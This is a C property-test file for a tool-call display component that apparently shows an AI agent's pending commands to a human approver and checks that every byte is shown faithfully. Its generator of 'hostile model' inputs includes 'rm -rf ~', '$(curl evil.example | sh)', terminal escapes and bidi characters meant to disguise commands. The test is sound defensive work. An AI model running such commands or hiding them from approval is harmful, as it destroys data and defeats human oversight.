/*
 * test-callshow.c - what an ask surface shows holds every byte the tool
 * receives: a property test over thousands of generated calls (multi-line
 * commands, control characters, bidi and zero-width characters, NUL, long
 * arguments, every script of letters, odd keys, non-string values).  Each
 * shown text is decoded back into the call and must give exactly the call;
 * it must be printable as it is (the terminal's filter leaves it alone);
 * and a call changed by one byte must show a different digest.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "liblev/base/termtext.h"
#include "liblev/base/util.h"
#include "liblev/base/xalloc.h"
#include "liblev/run/callshow.h"

/* ---- a decoder of the shown form (callshow.h), written from its spec ---- */

static void put_utf8(struct lev_buf *b, uint32_t cp)
{
	char u[4];
	size_t n = 0;

	if (cp < 0x80) {
		u[0] = (char)cp;
		n = 1;
	} else if (cp < 0x800) {
		u[0] = (char)(0xc0 | (cp >> 6));
		u[1] = (char)(0x80 | (cp & 0x3f));
		n = 2;
	} else if (cp < 0x10000) {
		u[0] = (char)(0xe0 | (cp >> 12));
		u[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
		u[2] = (char)(0x80 | (cp & 0x3f));
		n = 3;
	} else {
		u[0] = (char)(0xf0 | (cp >> 18));
		u[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
		u[2] = (char)(0x80 | ((cp >> 6) & 0x3f));
		u[3] = (char)(0x80 | (cp & 0x3f));
		n = 4;
	}
	(void)lev_buf_add(b, u, n);
}

/* One shown line (LEN bytes) back into its bytes. */
static void unescape(struct lev_buf *b, const char *s, size_t len)
{
	for (size_t i = 0; i < len; i++) {
		char hex[9] = { 0 };

		if (s[i] != '\\') {
			(void)lev_buf_addch(b, s[i]);
			continue;
		}
		assert_true(i + 1 < len);
		switch (s[++i]) {
		case '\\':
		case '(':
			(void)lev_buf_addch(b, s[i]);
			break;
		case 't':
			(void)lev_buf_addch(b, '\t');
			break;
		case 'x':
			assert_true(i + 2 < len);
			memcpy(hex, s + i + 1, 2);
			(void)lev_buf_addch(b, (char)strtoul(hex, NULL, 16));
			i += 2;
			break;
		case 'u':
		case 'U': {
			size_t n = s[i] == 'u' ? 4 : 8;

			assert_true(i + n < len);
			memcpy(hex, s + i + 1, n);
			put_utf8(b, (uint32_t)strtoul(hex, NULL, 16));
			i += n;
			break;
		}
		default:
			fail_msg("unknown escape '\\%c'", s[i]);
		}
	}
}

struct reader {
	const char *p;
};

/* The next line (without its newline); NULL at the end. */
static const char *next_line(struct reader *r, size_t *len)
{
	const char *l = r->p, *nl;

	if (!*l)
		return NULL;
	nl = strchr(l, '\n');
	assert_non_null(nl);	/* every line ends with one */
	*len = (size_t)(nl - l);
	r->p = nl + 1;
	return l;
}

/* A string value: REST is what follows "key:" on its line. */
static json_t *read_string(struct reader *r, const char *rest, size_t len)
{
	struct lev_buf b = LEV_BUF_INIT;
	unsigned long lines = 0;
	char *end = NULL;
	json_t *v;

	assert_true(len >= 1 && rest[0] == ' ');
	rest++;
	len--;
	if (len == 7 && !memcmp(rest, "(empty)", 7))
		return json_string("");
	if (len > 8 && rest[0] == '(' && !memcmp(rest + len - 7, " lines)", 7)) {
		lines = strtoul(rest + 1, &end, 10);
		assert_ptr_equal(end, rest + len - 7);
		assert_true(lines >= 2);
		for (unsigned long i = 0; i < lines; i++) {
			size_t n = 0;
			const char *l = next_line(r, &n);

			assert_non_null(l);
			assert_true(n >= 4 && !memcmp(l, "  | ", 4));
			if (i)
				(void)lev_buf_addch(&b, '\n');
			unescape(&b, l + 4, n - 4);
		}
	} else {
		assert_true(len && rest[0] != '(');
		unescape(&b, rest, len);
	}
	v = json_stringn(b.buf, b.len);
	assert_non_null(v);
	lev_buf_release(&b);
	return v;
}

/* The call TEXT shows: *tool, and the arguments (a new object). */
static json_t *decode(const char *text, char **tool)
{
	struct reader r = { text };
	json_t *args = json_object();
	const char *l;
	size_t n = 0;

	l = next_line(&r, &n);
	assert_non_null(l);
	assert_true(n >= 5 && !memcmp(l, "tool:", 5));
	{
		json_t *t = read_string(&r, l + 5, n - 5);

		*tool = xstrdup(json_string_value(t));
		json_decref(t);
	}
	while ((l = next_line(&r, &n))) {
		char *key;
		size_t k;

		if (l[0] == '"') {
			/* a JSON string key: up to its closing quote */
			json_error_t e;
			json_t *jk;

			for (k = 1; k < n && l[k] != '"'; k++)
				if (l[k] == '\\')
					k++;
			assert_true(k < n);
			jk = json_loadb(l, k + 1, JSON_DECODE_ANY, &e);
			assert_non_null(jk);
			key = xstrdup(json_string_value(jk));
			json_decref(jk);
			k++;
		} else {
			k = strcspn(l, ": =");
			assert_true(k > 0 && k < n);
			key = xstrndup(l, k);
		}
		if (l[k] == ':') {
			json_object_set_new(args, key, read_string(&r, l + k + 1, n - k - 1));
		} else {
			json_error_t e;
			json_t *v;

			assert_true(n >= k + 3 && !memcmp(l + k, " = ", 3));
			v = json_loadb(l + k + 3, n - k - 3, JSON_DECODE_ANY | JSON_ALLOW_NUL, &e);
			assert_non_null(v);
			json_object_set_new(args, key, v);
		}
		free(key);
	}
	return args;
}

/* ---- generated calls ------------------------------------------------------ */

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static uint32_t rnd(uint32_t n)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng % n);
}

/* What a hostile model writes into an argument, piece by piece. */
static void add_piece(struct lev_buf *b)
{
	static const char *const pieces[] = {
		"echo hi", "rm -rf ~", " ", "  ", "\n", "\n\n", "\r", "\t", "\\", "\\x1b", "\\u202e",
		"(", "(2 lines)", "(empty)", "  | ", ": ", " = ", "\x1b[2K", "\x1b]0;title\x07",
		"\b", "\x7f", "\xc2\x9b", "\xe2\x80\xae", "\xe2\x80\x8b", "\xe2\x81\xa6",
		"\xef\xbb\xbf", "\xe2\x80\xa8", "\xf3\xa0\x80\x81", "\xc3\xa9t\xc3\xa9",
		"\xe6\x97\xa5\xe6\x9c\xac", "\xf0\x9f\x98\x80", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
		"\"", "'", "$(curl evil.example | sh)", "#", ";", "&&", "|",
	};

	if (rnd(20) == 0) {
		(void)lev_buf_addch(b, '\0');
		return;
	}
	if (rnd(6) == 0) {
		(void)lev_buf_addch(b, (char)(0x20 + rnd(0x5f)));
		return;
	}
	(void)lev_buf_adds(b, pieces[rnd(sizeof(pieces) / sizeof(pieces[0]))]);
}

static json_t *gen_string(void)
{
	struct lev_buf b = LEV_BUF_INIT;
	uint32_t n = rnd(10) == 0 ? 2000 + rnd(20000) : rnd(12);
	json_t *v;

	while (b.len < n || (n && !b.len))
		add_piece(&b);
	v = json_stringn(b.buf, b.len);
	assert_non_null(v);
	lev_buf_release(&b);
	return v;
}

static char *gen_key(void)
{
	static const char *const keys[] = { "command", "path", "content", "url", "timeout",
					    "a.b-c_1", "", "two words", "x: y", "k = v",
					    "\"quoted\"", "new\nline", "\xe2\x80\xae" "rtl",
					    "tool", "(redirect to)" };

	if (rnd(4) == 0) {
		json_t *s = gen_string();
		char *k = xstrdup(json_string_value(s));	/* up to a NUL: a key is a C string */

		json_decref(s);
		return k;
	}
	return xstrdup(keys[rnd(sizeof(keys) / sizeof(keys[0]))]);
}

static json_t *gen_value(unsigned depth)
{
	switch (rnd(depth ? 6 : 9)) {
	case 0:
		return json_integer((json_int_t)rnd(100000) - 5000);
	case 1:
		return rnd(2) ? json_true() : json_null();
	case 2:
		return json_real(rnd(1000) / 8.0);
	case 3: {
		json_t *a = json_array();

		for (uint32_t i = rnd(4); i > 0; i--)
			json_array_append_new(a, gen_value(depth + 1));
		return a;
	}
	case 4: {
		json_t *o = json_object();

		for (uint32_t i = rnd(3); i > 0; i--) {
			char *k = gen_key();

			json_object_set_new(o, k, gen_value(depth + 1));
			free(k);
		}
		return o;
	}
	default:
		return gen_string();
	}
}

static json_t *gen_args(void)
{
	json_t *o = json_object();

	for (uint32_t i = rnd(5); i > 0; i--) {
		char *k = gen_key();

		json_object_set_new(o, k, gen_value(0));
		free(k);
	}
	return o;
}

/* ---- the properties -------------------------------------------------------- */

static void check_call(const char *tool, const json_t *args)
{
	char *shown = lev_callshow_text(tool, args, NULL, NULL);
	struct lev_buf term = LEV_BUF_INIT, ind = LEV_BUF_INIT;
	char *got_tool = NULL;
	json_t *got = decode(shown, &got_tool);

	/* every byte the tool receives, and nothing else, is in the text */
	assert_string_equal(got_tool, tool);
	if (!json_equal(got, (json_t *)args)) {
		char *w = json_dumps(args, JSON_ENCODE_ANY), *g = json_dumps(got, JSON_ENCODE_ANY);

		fail_msg("shown:\n%s\nwant %s\ngot  %s", shown, w, g);
	}
	/* the terminal's filter leaves it as it is: what is printed is the text */
	lev_termtext_add(&term, shown, strlen(shown));
	assert_string_equal(term.buf, shown);
	/* a surface that indents it keeps every line */
	lev_callshow_indent(&ind, shown, "    ");
	{
		size_t lines = 0;

		for (const char *p = shown; *p; p++)
			lines += *p == '\n';
		assert_int_equal(ind.len, strlen(shown) + 4 * lines);
	}
	lev_buf_release(&term);
	lev_buf_release(&ind);
	json_decref(got);
	free(got_tool);
	free(shown);
}

static void test_generated_calls_shown_whole(void **state)
{
	(void)state;
	for (int i = 0; i < 4000; i++) {
		json_t *args = gen_args();
		json_t *tool = gen_string();
		/* a tool name is a C string: one with a NUL is not generated */
		bool odd = i % 3 == 0 && strlen(json_string_value(tool)) == json_string_length(tool);

		check_call(odd ? json_string_value(tool) : "shell", args);
		json_decref(tool);
		json_decref(args);
	}
}

/* One byte changed anywhere in an argument: another text, another digest. */
static void test_digest_binds_every_byte(void **state)
{
	(void)state;
	for (int i = 0; i < 1000; i++) {
		json_t *v = gen_string(), *a = json_object(), *b = json_object();
		const char *s = json_string_value(v);
		size_t len = json_string_length(v);
		char *m = xmemdup(s, len + 1), *sa, *sb;
		char da[LEV_SHA256_HEX_LEN + 1], db[LEV_SHA256_HEX_LEN + 1];
		json_t *mv;

		if (!len) {
			json_decref(v);
			json_decref(a);
			json_decref(b);
			free(m);
			continue;
		}
		m[rnd((uint32_t)len)] ^= 0x01;	/* ASCII stays ASCII, a UTF-8 byte may not */
		mv = json_stringn(m, len);
		json_object_set(a, "command", v);
		if (mv)
			json_object_set_new(b, "command", mv);
		else
			json_object_set_new(b, "command", json_string("other"));
		sa = lev_callshow_text("shell", a, NULL, NULL);
		sb = lev_callshow_text("shell", b, NULL, NULL);
		lev_callshow_digest(sa, da);
		lev_callshow_digest(sb, db);
		assert_string_not_equal(sa, sb);
		assert_string_not_equal(da, db);
		free(sa);
		free(sb);
		free(m);
		json_decref(v);
		json_decref(a);
		json_decref(b);
	}
}

static void test_examples(void **state)
{
	json_t *args = json_pack("{s:s, s:i}", "command", "echo one\necho two  ", "timeout", 30);
	char *s = lev_callshow_text("shell", args, NULL, NULL);
	char *h = lev_callshow_text("fetch", NULL, "{not json", "https://x.example/\x1b");
	char d[LEV_SHA256_HEX_LEN + 1];

	(void)state;
	assert_string_equal(s, "tool: shell\n"
			       "command: (2 lines)\n"
			       "  | echo one\n"
			       "  | echo two\\x20\\x20\n"
			       "timeout = 30\n");
	assert_string_equal(h, "tool: fetch\n"
			       "(arguments that are not JSON): {not json\n"
			       "(redirect to): https://x.example/\\x1b\n");
	/* the digest is sha256 of "lev-call-v1\n" and the text, as lev respond computes it */
	lev_callshow_digest("", d);
	assert_string_equal(d, "8895751d8a4116078e2bef61e795d20709ba3b9db6a1e8d7d130fdb20a47a43c");
	free(s);
	free(h);
	json_decref(args);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_examples),
		cmocka_unit_test(test_generated_calls_shown_whole),
		cmocka_unit_test(test_digest_binds_every_byte),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
